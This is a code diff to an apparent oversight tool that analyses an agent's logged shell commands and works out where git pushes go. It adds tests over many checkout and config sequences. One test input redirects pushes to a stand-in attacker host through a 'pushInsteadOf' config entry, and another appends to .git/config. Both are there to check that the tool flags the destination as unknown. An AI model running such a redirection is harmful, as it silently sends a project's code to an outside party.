@@ -9,7 +9,7 @@ use countersign_agents::PastResult;
 use countersign_model::{Decision, Effect, Timestamp};
 use countersign_policy::{self as policy, Bundle, Context};
 use countersign_redact::Redactor;
-use countersign_understand::{Pinning, Surroundings, Workspace, understand};
+use countersign_understand::{Left, Pinning, Surroundings, Workspace, understand};
 use serde_json::{Value, json};
 
 use crate::assumed::as_unix;
@@ -189,8 +189,8 @@ impl Progress {
     ) -> (Vec<Effect>, Decision) {
         self.workspace.on(call.branch.as_deref());
         self.workspace.foresees(&call.call);
-        let (mut effects, context) = match &call.source {
-            Source::Evidence { effects, context } => (effects.clone(), (**context).clone()),
+        let (mut effects, context, left) = match &call.source {
+            Source::Evidence { effects, context } => (effects.clone(), (**context).clone(), Left::default()),
             Source::Log => self.understand((key, call), findings, files, memo),
         };
         policy::classify(&mut effects, bundle, Some(self.workspace.root()));
@@ -202,6 +202,7 @@ impl Progress {
         // It did run, or may have, whatever we would have said; what was held would have been approved to.
         if matches!(call.result, PastResult::Succeeded | PastResult::Failed | PastResult::Unknown) {
             self.history.ran(&effects);
+            self.workspace.leaves(&left, call.result == PastResult::Failed);
             self.workspace.ran(&call.call, &effects);
         }
         (effects, decision)
@@ -213,7 +214,7 @@ impl Progress {
         findings: &[countersign_model::Finding],
         files: Option<Files<'_>>,
         memo: &mut Memo,
-    ) -> (Vec<Effect>, Context) {
+    ) -> (Vec<Effect>, Context, Left) {
         let mut asked = call.call.clone();
         if asked.cwd.is_empty() {
             self.workspace.root().clone_into(&mut asked.cwd);
@@ -239,12 +240,13 @@ impl Progress {
         };
         let mut effects = understanding.effects;
         self.workspace.mark_own(&mut effects);
-        (effects, context)
+        (effects, context, understanding.left)
     }
 }
 
 #[cfg(test)]
 mod tests {
+    use countersign_model::Resource;
     use countersign_policy::{Proposal, build};
 
     use super::*;
@@ -252,16 +254,65 @@ mod tests {
 
     /// What the calls of one session, made in a directory, are said to do to remote repositories.
     fn pushes(directory: &str, commands: &[&str]) -> Vec<String> {
+        let effects = decided(directory, commands).into_iter().flat_map(|(effects, _)| effects);
+        effects
+            .filter(|effect| effect.verb.as_str().contains("push"))
+            .map(|effect| format!("{} {}", effect.verb.as_str(), effect.resource))
+            .collect()
+    }
+
+    /// What each of these commands of one session, made in a directory, does.
+    fn decided(directory: &str, commands: &[&str]) -> Vec<(Vec<Effect>, Decision)> {
         let call = |command: &&str| json!({ "tool": "Bash", "input": { "command": command }, "cwd": directory, "session": "s" });
         let text = commands.iter().map(|command| call(command).to_string()).collect::<Vec<_>>().join("\n");
         let history = History::of([("s.jsonl".to_owned(), countersign_agents::read(text.as_bytes()))]);
         let bundle = build(&Proposal::default()).unwrap();
         let decided = run(&history, &bundle, None, None, &|_| {}).decided;
-        let effects = decided.iter().flat_map(|one| &one.effects);
-        effects
-            .filter(|effect| effect.verb.as_str().contains("push"))
-            .map(|effect| format!("{} {}", effect.verb.as_str(), effect.resource))
-            .collect()
+        decided.into_iter().map(|one| (one.effects, one.decision)).collect()
+    }
+
+    #[test]
+    fn what_the_session_did_to_git_counts_for_the_next_push() {
+        let last = |commands: &[&str]| pushes("/home/dev/shop", commands).pop().unwrap_or_default();
+        let feature = "git checkout -b feature";
+        for commands in [
+            &[feature, "git checkout main", "git push"][..],
+            &[feature, "git push", "git switch main", "git push origin HEAD"],
+            &[feature, "git checkout other", "git checkout main", "git push"],
+            &[feature, "git symbolic-ref HEAD refs/heads/main", "git push origin HEAD"],
+            &[feature, "python3 -c \"import subprocess; subprocess.run(['git', 'checkout', 'main'])\"", "git push"],
+            &[feature, "git config remote.origin.push HEAD:refs/heads/main", "git push"],
+            &[feature, "git branch -u origin/main && git config push.default upstream", "git push"],
+            &[feature, "git checkout -", "git push"],
+            &[feature, "git checkout main && git pull", "git checkout -", "git switch -", "git push"],
+        ] {
+            assert!(last(commands).starts_with("git.push main@origin"), "{commands:?}: {}", last(commands));
+        }
+        for commands in [
+            &[feature, "git push"][..],
+            &[feature, "git checkout main", "git checkout feature", "git push"],
+            &[feature, "git config pull.rebase true", "git remote set-head origin main", "git push"],
+            &[feature, "git branch --set-upstream-to=origin/feature feature", "git push"],
+            &["git switch feature", "git push"],
+        ] {
+            let last = last(commands);
+            assert!(last.starts_with("git.push feature@origin"), "{commands:?}: {:?}", pushes("/home/dev/shop", commands));
+        }
+        // Where it goes now, or that nobody knows where.
+        let address = |commands: &[&str]| {
+            let (effects, _) = decided("/home/dev/shop", commands).pop().unwrap();
+            let pushed = effects.into_iter().find_map(|effect| match effect.resource {
+                Resource::Ref { repository, .. } => repository.remote,
+                _ => None,
+            });
+            pushed.unwrap().url
+        };
+        let other = "git@github.com:acme/other.git";
+        assert_eq!(address(&[&format!("git remote set-url origin {other}"), "git push"]).as_deref(), Some(other));
+        assert_eq!(address(&[&format!("git remote add fork {other}"), "git push fork HEAD"]).as_deref(), Some(other));
+        for changed in ["git config url.git@evil.example:.pushInsteadOf git@github.com:", "printf x >> .git/config"] {
+            assert_eq!(address(&[changed, "git push"]), None, "{changed}");
+        }
     }
 
     #[test]
@@ -276,12 +327,7 @@ mod tests {
 
     /// Which verbs the last of these calls of one session has.
     fn last(commands: &[&str]) -> String {
-        let call = |command: &&str| json!({ "command": command, "cwd": "/home/dev/shop" }).to_string();
-        let text = commands.iter().map(call).collect::<Vec<_>>().join("\n");
-        let history = History::of([("s.jsonl".to_owned(), countersign_agents::read(text.as_bytes()))]);
-        let bundle = build(&Proposal::default()).unwrap();
-        let decided = run(&history, &bundle, None, None, &|_| {}).decided;
-        let effects = decided.last().map(|one| one.effects.as_slice()).unwrap_or_default();
+        let (effects, _) = decided("/home/dev/shop", commands).pop().unwrap();
         effects.iter().map(|effect| effect.verb.as_str()).collect::<Vec<_>>().join(" ")
     }
 
